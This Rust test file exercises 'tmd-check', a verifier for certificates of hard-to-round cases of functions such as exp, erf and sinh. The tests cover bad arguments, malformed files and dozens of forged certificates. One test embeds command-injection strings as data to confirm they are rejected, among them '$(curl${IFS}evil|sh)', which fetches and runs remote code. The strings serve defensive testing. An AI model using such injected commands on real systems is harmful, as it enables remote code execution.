//! The program: its arguments and exit codes, honest certificates, forged ones, and files that are none.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const EXP: &str = include_str!("data/exp.json");
const ARCS: &str = include_str!("data/arcs.json");
const RUNS: &str = include_str!("data/runs.json");
const DIRECT: &str = include_str!("data/direct.json");
const DECIDED: &str = include_str!("data/decided.json");
const SINH: &str = include_str!("data/sinh.json");
/// erf next to 64, whose distances no precision shows.
const DEEP: &str = include_str!("data/deep.json");
/// 0.1·x from 1.25 on, where it is a power of two.
const TENTH: &str = include_str!("data/tenth.json");
/// log(exp(x)) from 1 on, of which no precision and no algebra tells that it is x.
const UNDONE: &str = include_str!("data/undone.json");
/// x³ below 2, with runs of every second input whose distances are those of all.
const HALVES: &str = include_str!("data/halves.json");

fn run(arguments: &[&str]) -> (Option<i32>, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_tmd-check")).args(arguments).output();
    let Output { status, stdout, stderr } = output.expect("the program runs");
    assert!(!String::from_utf8_lossy(&stderr).contains("panicked"), "{arguments:?}");
    (status.code(), String::from_utf8(stdout).expect("UTF-8"))
}

/// A file of its own for a test.
fn file(name: &str, text: &[u8]) -> PathBuf {
    let path = Path::new(env!("CARGO_TARGET_TMPDIR")).join(name);
    fs::write(&path, text).expect("written");
    path
}

fn check(name: &str, text: &str, more: &[&str]) -> (Option<i32>, String) {
    let path = file(name, text.as_bytes());
    run(&[&[path.to_str().expect("UTF-8")], more].concat())
}

/// Changes the scalar after the n-th `"key": `.
fn edit(text: &str, key: &str, n: usize, change: impl Fn(&str) -> String) -> String {
    let mark = format!("\"{key}\": ");
    let at =
        text.match_indices(&mark).nth(n).unwrap_or_else(|| panic!("no {key} {n}")).0 + mark.len();
    let end = at + text[at..].find([',', '}', ']']).expect("an end");
    let (old, rest) = (&text[at..end], &text[end..]);
    let new = change(old);
    assert_ne!(new, old, "{key}");
    format!("{}{new}{rest}", &text[..at])
}

fn scaled(text: &str, key: &str, n: usize, by: f64) -> String {
    edit(text, key, n, |old| format!("{:e}", old.parse::<f64>().expect("a number") * by))
}

fn added(text: &str, key: &str, n: usize, more: i64) -> String {
    edit(text, key, n, |old| (old.parse::<i64>().expect("an integer") + more).to_string())
}

/// Removes the n-th element of the list after `"key": [`.
fn without(text: &str, key: &str, n: usize) -> String {
    let mark = format!("\"{key}\": [");
    let start = text.find(&mark).expect("the list") + mark.len();
    let (mut depth, mut at, mut elements) = (0, start, vec![start]);
    for (offset, c) in text[start..].char_indices() {
        at = start + offset;
        match c {
            '{' | '[' => depth += 1,
            ']' if depth == 0 => break,
            '}' | ']' => depth -= 1,
            ',' if depth == 0 => elements.push(at + 1),
            _ => {}
        }
    }
    elements.push(at + 1);
    let (from, to) = (elements[n], elements[n + 1]);
    let is_last = n + 2 == elements.len();
    match (n, is_last) {
        (0, true) => format!("{}{}", &text[..from], &text[to - 1..]),
        (_, true) => format!("{}{}", &text[..from - 1], &text[to - 1..]),
        _ => format!("{}{}", &text[..from], &text[to..]),
    }
}

#[test]
fn honest_certificates_are_accepted() {
    for (name, text) in [
        ("exp", EXP),
        ("arcs", ARCS),
        ("runs", RUNS),
        ("direct", DIRECT),
        ("decided", DECIDED),
        ("sinh", SINH),
        ("deep", DEEP),
        ("tenth", TENTH),
        ("undone", UNDONE),
        ("halves", HALVES),
    ] {
        let (code, told) = check(&format!("{name}.json"), text, &["--sample", "9", "--seed", "1"]);
        assert_eq!(code, Some(0), "{name}: {told}");
        assert!(told.ends_with("tmd-check: accepted\n") && told.contains("trusted"), "{told}");
        let again = check(&format!("{name}.json"), text, &["--sample", "9", "--seed", "1"]);
        assert_eq!(again, (code, told), "the same seed tells the same");
    }
}

/// The certificate of erf with another distance and other identical bits of the first case.
fn told_by([distance, bits]: &[&str; 2]) -> String {
    let text = edit(DEEP, "distance", 0, |_| (*distance).to_owned());
    edit(&text, "identical_bits", 0, |_| (*bits).to_owned())
}

fn second(text: &str) -> String {
    edit(text, "engine", 0, |_| "2".to_owned())
}

/// A certificate whose first run is said to be undecided, and no more than that.
fn undecided_run(text: &str) -> String {
    let start = text.find("\"what\": \"hard\"").expect("a run");
    let end = start + text[start..].find("\"most\"").expect("a bound");
    let text = format!("{}\"what\": \"unknown\", {}", &text[..start], &text[end..]);
    let text = edit(&text, "complete", 0, |_| "false".to_owned());
    edit(&text, "cases_in_runs", 0, |_| "4194300".to_owned())
}

/// The command is a search with the options of the request, as a shell reads it, and names a profile where there is one.
#[test]
fn commands_are_those_of_searches() {
    let honest = "tmd-codegen search exp ";
    let with = |new: &str| EXP.replacen(honest, new, 1);
    for (name, text) in [
        ("another program", with("codegen search exp ")),
        ("another task", with("tmd-codegen plan exp ")),
        ("a command in a command", with("tmd-codegen $(curl${IFS}evil|sh) exp ")),
        ("a second command", with("tmd-codegen search exp; ")),
        ("a command in quotes", with("tmd-codegen search \\\"exp$(evil)\\\" ")),
        ("a quote without an end", with("tmd-codegen search 'exp ")),
        ("an option twice", with("tmd-codegen search exp exp ")),
        ("a profile that is not there", with("tmd-codegen search exp --profile p.toml ")),
        ("a profile that is not named", EXP.replacen("{", "{\"profile\": {},", 1)),
    ] {
        assert_ne!(text, EXP, "{name}");
        let (code, told) = check("command.json", &text, &[]);
        assert!(code == Some(1) && told.contains("the command"), "{name}: {told}");
    }
    for word in ["exp", "'exp'", "\\\"exp\\\"", "'e''xp' --profile 'my $profile;'"] {
        let text = with(&format!("tmd-codegen search {word} "));
        let has_profile = word.contains("profile");
        let text = if has_profile { text.replacen("{", "{\"profile\": {},", 1) } else { text };
        let (code, told) = check("command.json", &text, &[]);
        assert_eq!(code, Some(0), "{word}: {told}");
    }
}

#[test]
fn arguments_are_read() {
    for bad in [
        &[][..],
        &["--sample"],
        &["a", "b"],
        &["--fast", "a"],
        &["a", "--seed", "x"],
        &["/no/such"],
        &["/"],
    ] {
        let (code, told) = run(bad);
        assert_eq!(code, Some(2), "{bad:?}: {told}");
        assert!(told.starts_with("tmd-check: cannot tell: "), "{told}");
    }
}

#[test]
fn help_is_given() {
    for asked in ["--help", "-h"] {
        let (code, told) = run(&[asked]);
        assert!(code == Some(0) && told.contains("usage: ") && told.contains("--seed S"), "{told}");
    }
}

#[test]
fn files_that_are_no_certificates_are_told_apart() {
    let deep = "[".repeat(1 << 20);
    let unknown = EXP.replace("\"exp(x)\"", "\"zeta(x)\"").replace("\"exp\"", "\"zeta\"");
    for (n, text) in [
        "",
        "{}",
        "[]",
        "null",
        "{\"schema\": 99}",
        "{\"schema\": 3",
        "\"\\u12",
        "{\"schema\": 1e999999999999}",
        &deep,
        &unknown,
        &EXP.replace("\"engine\"", "\"motor\""),
        &format!("{EXP} {{}}"),
    ]
    .into_iter()
    .enumerate()
    {
        let (code, told) = check(&format!("none{n}.json"), text, &[]);
        assert_eq!(code, Some(2), "{text:.40}: {told}");
    }
    let path = file("bytes.json", &[0xff, 0xfe]);
    assert_eq!(run(&[path.to_str().expect("UTF-8")]).0, Some(2));
}

/// How many cases are in runs without the first run.
fn fewer(text: &str) -> String {
    let number = |key: &str| -> u64 {
        let at = text.find(&format!("\"{key}\": ")).expect("there") + key.len() + 4;
        let end = text[at..].find([',', '}']).expect("an end");
        text[at..at + end].parse().expect("a number")
    };
    (number("cases_in_runs") - (number("end") - number("start"))).to_string()
}

/// The first run once more, as one of every second input.
fn twice_told(text: &str) -> String {
    let start = text.find("\"runs\": [").expect("runs") + 9;
    let end = start + text[start..].find("}}").expect("an end");
    let end = end + text[end..].find("}, {").expect("another run") + 1;
    let again = text[start..end].replace("\"stride\": 1", "\"stride\": 2");
    let again = again.replace("0x1.fffffap-40", "0x1.fffff8p-40");
    let forged = format!("{}, {again}{}", &text[..end], &text[end..]);
    edit(&forged, "cases_in_runs", 0, |old| {
        (old.parse::<u64>().expect("a number") + 4_194_302).to_string()
    })
}

/// A certificate that leaves out a case, with all its counts to match, is refused by a sample that holds the case.
#[test]
fn cases_that_are_left_out_are_found() {
    let forged = added(&without(EXP, "cases", 4), "cases", 0, -1);
    let (code, told) = check("left-out.json", &forged, &[]);
    assert_eq!(code, Some(0), "only a second search can tell: {told}");
    // There is one window: a sample finds the case with probability 1.
    let (code, told) = check("left-out.json", &forged, &["--sample", "1", "--seed", "5"]);
    assert!(code == Some(1) && told.contains("left out"), "{told}");
    // Inputs that are examined one by one are so again.
    let forged = added(&without(DIRECT, "cases", 2), "cases", 0, -1);
    let (code, told) = check("left-out.json", &forged, &[]);
    assert!(code == Some(1) && told.contains("not listed"), "{told}");
}

/// Every forgery is refused, for the reason that it gives.
#[test]
fn forgeries_are_refused() {
    // Of the spans' lists: the first element is g itself, which no bound rests on.
    let halved = |text: &str, key: &str, element: usize| {
        let mark = format!("\"{key}\": [");
        let start = text.find(&mark).expect("the list") + mark.len();
        let end = start + text[start..].find(']').expect("an end");
        let mut list: Vec<String> = text[start..end].split(", ").map(str::to_owned).collect();
        list[element] = format!("{:e}", list[element].parse::<f64>().expect("a number") / 2.0);
        format!("{}{}{}", &text[..start], list.join(", "), &text[end..])
    };
    let twice = EXP.replacen("\"schema\": 4", "\"schema\": 4, \"schema\": 4", 1);
    let forged: Vec<(&str, String, &str)> = vec![
        ("a name twice", twice, "twice"),
        ("another function", EXP.replace("\"exp(x)\"", "\"expm1(x)\""), "function"),
        (
            "another range",
            EXP.replacen(
                "\"range\": \"1,1.25\", \"input_format",
                "\"range\": \"1,1.5\", \"input_format",
                1,
            ),
            "range",
        ),
        ("a longer range", EXP.replace("1,1.25", "1,1.5"), "another number"),
        ("another command", EXP.replace("--precision 20", "--precision 21"), "command"),
        ("fewer bits", added(EXP, "epsilon_bits", 0, -1), "ε"),
        ("another rounding", edit(EXP, "rounding", 0, |_| "\"nearest\"".into()), "rounding"),
        ("another exponent range", added(EXP, "emax", 0, 1), "input_format"),
        ("another precision", added(EXP, "precision", 2, 1), "output_format"),
        ("more inputs", added(EXP, "inputs", 0, 1), "inputs"),
        ("a covered run that ends early", added(EXP, "to_index", 0, -1), "covered"),
        ("fewer covered inputs", added(EXP, "covered_inputs", 0, -1), "covered"),
        ("a span that ends early", added(EXP, "to_index", 1, -1), "spans"),
        ("no span", without(EXP, "spans", 0), "spans leave out"),
        ("an incomplete search", edit(EXP, "complete", 0, |_| "false".into()), "complete"),
        ("another spacing", added(EXP, "spacing", 0, -1), "apart"),
        ("a bound of g' halved", halved(EXP, "derivatives", 1), "g^(1)"),
        ("a bound of g'' halved", halved(EXP, "derivatives", 2), "g^(2)"),
        ("a bound of a high derivative halved", halved(EXP, "derivatives", 12), "g^(12)"),
        ("a higher least curvature", scaled(ARCS, "least_curvature", 1, 2.0), "g''/2"),
        ("a bound of a block halved", halved(EXP, "block_derivatives", 2), "block"),
        ("ε halved", scaled(EXP, "value", 2, 0.5), "threshold"),
        (
            "a bound halved",
            edit(EXP, "name\": \"line instead of the curve\", \"value", 0, |old| {
                format!("{:e}", old.parse::<f64>().expect("a number") / 2.0)
            }),
            "line instead",
        ),
        (
            "a bound that is only given",
            EXP.replacen("\"status\": \"proved\"", "\"status\": \"given\"", 1),
            "given",
        ),
        ("a bound left out", without(EXP, "bounds", 3), "there 0 times"),
        (
            "a smaller threshold of a test",
            edit(EXP, "threshold", 0, |old| {
                (old.parse::<u64>().expect("an integer") / 4 * 2).to_string()
            }),
            "sum up",
        ),
        (
            "a smaller threshold of arcs",
            edit(ARCS, "threshold", 0, |old| {
                (old.parse::<u64>().expect("an integer") / 2).to_string()
            }),
            "sum up",
        ),
        (
            "a longer Taylor model",
            edit(EXP, "domain_inputs", 0, |old| {
                (old.parse::<u64>().expect("an integer") * 2).to_string()
            }),
            "",
        ),
        ("fewer words", added(EXP, "value_words", 0, -1), ""),
        ("a lower degree", added(EXP, "degree", 0, -1), "quantities"),
        ("another length of parts", edit(EXP, "part_inputs", 0, |_| "16".into()), "kernel"),
        ("a widened threshold", added(EXP, "widening", 0, 1), "widened"),
        ("a case moved", added(EXP, "index", 0, 1), "not input"),
        (
            "a case of another kind",
            EXP.replacen("\"kind\": \"directed\"", "\"kind\": \"nearest\"", 1),
            "said to be",
        ),
        ("a harder case", scaled(EXP, "distance", 0, 0.5), "said to be"),
        ("more identical bits", added(EXP, "identical_bits", 0, 1), "said to be"),
        ("a case left out", without(EXP, "cases", 4), "listed"),
        ("one case more", added(EXP, "cases", 0, 1), "listed"),
        ("an exact case more", added(EXP, "exact_cases", 0, 1), "listed"),
        ("more parts tested", edit(EXP, "tested", 0, |old| format!("{old}0")), "stage 0"),
        ("fewer survivors", edit(EXP, "survivors", 0, |_| "[1".into()), "survivors"),
        ("fewer candidates", added(EXP, "candidates", 0, -1), "candidates"),
        ("another number of direct inputs", added(DIRECT, "examined_directly", 0, 1), "directly"),
        ("an overflow that is none", DECIDED.replace("overflow", "undefined"), "undefined"),
        ("a drift that does not move", RUNS.replacen("rising", "constant", 1), "constant"),
        ("a shorter reach", scaled(RUNS, "value", 0, 0.5), "proved"),
        ("another step", edit(RUNS, "step", 0, |_| "\"1\"".into()), "drift 0"),
        ("a run that ends early", added(RUNS, "end", 0, -1), "run of cases"),
        ("a run that is less hard", scaled(RUNS, "most", 0, 0.5), "not as it says"),
        ("a run that is harder", scaled(RUNS, "least", 0, 2.0), "not as it says"),
        ("the inputs of a run told twice", twice_told(RUNS), "not as it says"),
        ("a run with ε for a bound", edit(RUNS, "most", 0, |_| "9e-4".into()), "not as it says"),
        ("a run told as undecided", undecided_run(RUNS), "not as it says"),
        (
            "a run of halves told harder",
            edit(HALVES, "least", 1, |_| "1e-13".into()),
            "not as it says",
        ),
        (
            "a run that hardly moves, with no least distance",
            edit(&RUNS.replacen("rising", "nearly constant", 1), "least", 0, |_| "0.0".into()),
            "nearly constant",
        ),
        ("a deep case told by ε", told_by(&["1.5e-3", "9"]), "said to be"),
        ("a deep case told by less", told_by(&["\"0x1.8p-3000\"", "2999"]), "said to be"),
        ("the same of the second engine", second(&told_by(&["1.5e-3", "9"])), "said to be"),
        (
            "a run left out",
            edit(&without(RUNS, "runs", 0), "cases_in_runs", 0, |_| fewer(RUNS)),
            "left out",
        ),
    ];
    let mut wrong = vec![];
    for (name, text, reason) in &forged {
        let (code, told) = check("forged.json", text, &[]);
        if code != Some(1) || !told.contains("refused") || !told.contains(reason) {
            wrong.push(format!("{name}: {told}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(forged.len() >= 35, "{}", forged.len());
}

/// A run of the inputs from 16 on of the certificate of sinh, as certificates write it.
fn inputs(from: u64, to: u64) -> String {
    let number = |index: u64| {
        let digits = format!("{:05x}", index << 3);
        let digits = digits.trim_end_matches('0');
        format!("0x1{}{digits}p+4", if digits.is_empty() { "" } else { "." })
    };
    format!(
        r#"{{"first": "{}", "last": "{}", "segment": 1, "from_index": {from}, "to_index": {to}}}"#,
        number(from),
        number(to - 1)
    )
}

/// The certificate of sinh, with inputs that were taken from the list of exp, and what kernels then have tested: blocks of 2048 parts,
/// and as many candidates.
fn resting(from: u64, to: u64, blocks: u64, candidates: u64) -> String {
    let hash = "5a".repeat(32);
    let entry = format!(
        r#""asymptote": {{"function": "exp(x)", "bits": 10, "range": ["0x1p+0", "0x1p+10"], "cases": 700, "list": "{hash}", "runs": [{}]}}, "kernels""#,
        inputs(from, to)
    );
    let text = SINH.replacen("\"kernels\"", &entry, 1);
    let text = edit(&text, "tested", 0, |_| format!("[{}", 2048 * blocks));
    let text = edit(&text, "survivors", 0, |_| format!("[{candidates}"));
    edit(&text, "candidates", 0, |_| candidates.to_string())
}

/// A unit with the runs of some inputs, and what kernels tested and found of them.
fn unit(number: u64, runs: &str, blocks: u64, found: u64) -> String {
    let tested = 2048 * blocks;
    format!(
        r#"{{"number": {number}, "id": "", "runs": [{runs}], "tested": [{tested}], "survivors": [{found}],
        "candidates": {found}, "examined_directly": 0, "canaries": 32, "cases": {found}, "exact_cases": 0, "unknown": 0,
        "case_runs": 0, "inverse": {{"cases": 0, "exact_cases": 0, "unknown": 0}}}}"#
    )
}

/// Inputs that rest on a list are covered and their cases are listed, but kernels did not test them.
#[test]
fn inputs_that_rest_on_a_list_were_not_tested() {
    let sample = &["--sample", "9", "--seed", "1"];
    // The last inputs, and some between others: blocks begin anew behind them.
    for (from, to, blocks, candidates) in [(6000, 16384, 9, 20), (2000, 9000, 10, 21)] {
        let honest = resting(from, to, blocks, candidates);
        let (code, told) = check("resting.json", &honest, sample);
        assert_eq!(code, Some(0), "{told}");
        let line = format!(
            "from a list   {} inputs in 1 runs: their cases were taken from the list of exp(x) for 2^-10, 700 inputs with SHA-256 \
             5a5a5a5a5a5a5a5a…\n",
            to - from
        );
        assert!(told.contains(&line) && told.contains("that the list of exp(x)"), "{told}");
        assert!(told.contains("all windows searched again (1), 24576 inputs"), "{told}");
    }
    let honest = resting(6000, 16384, 9, 20);
    let (_, plain) = check("resting.json", SINH, sample);
    assert!(!plain.contains("a list") && !plain.contains("the list of"), "{plain}");
    // All inputs from 16 on, of which then nothing is left to test.
    let all = resting(0, 16384, 5, 14);
    assert_eq!(check("resting.json", &all, sample).0, Some(0));

    let first = r#"{"first": "0x1.fp+3", "last": "0x1.ffff8p+3", "segment": 0, "from_index": 0, "to_index": 8192}"#;
    let with_units = |list: &[String]| {
        honest.replacen("\"units\": []", &format!("\"units\": [{}]", list.join(", ")), 1)
    };
    let units = [unit(0, first, 5, 14), unit(1, &inputs(0, 6000), 4, 6)];
    let (code, told) = check("resting.json", &with_units(&units), sample);
    assert_eq!(code, Some(0), "{told}");
    let more = unit(2, &inputs(6000, 16384), 7, 9);

    let forged = [
        ("all as tested", edit(&honest, "tested", 0, |_| "[28672".to_owned()), "stage 0"),
        ("fewer blocks", resting(6000, 16384, 8, 20), "stage 0"),
        ("too few candidates", resting(6000, 16384, 9, 19), "fewer survive"),
        ("a unit of them", with_units(&[&units[..], &[more]].concat()), "units hold"),
        ("a unit left out", with_units(&units[..1]), "units leave out"),
        ("an older schema", honest.replacen("\"schema\": 5", "\"schema\": 4", 1), "schema 4"),
        ("another g", honest.replacen("exp(x)", "exp2(x)", 1), "list of exp(x)"),
        ("as many bits", honest.replacen("\"bits\": 10", "\"bits\": 11", 1), "not enough"),
        ("a shorter list", honest.replacen("\"cases\": 700", "\"cases\": 8", 1), "a list of 8"),
    ];
    for (name, text, reason) in forged {
        assert_ne!(text, honest, "{name}");
        let (code, told) = check("resting.json", &text, &[]);
        assert!(code == Some(1) && told.contains(reason), "{name}: {told}");
    }
    // A case that is on no list is found where it rests on one, too.
    let left_out = added(&without(&honest, "cases", 25), "cases", 0, -1);
    let (code, told) = check("resting.json", &left_out, sample);
    assert!(code == Some(1) && told.contains("left out"), "{told}");
}
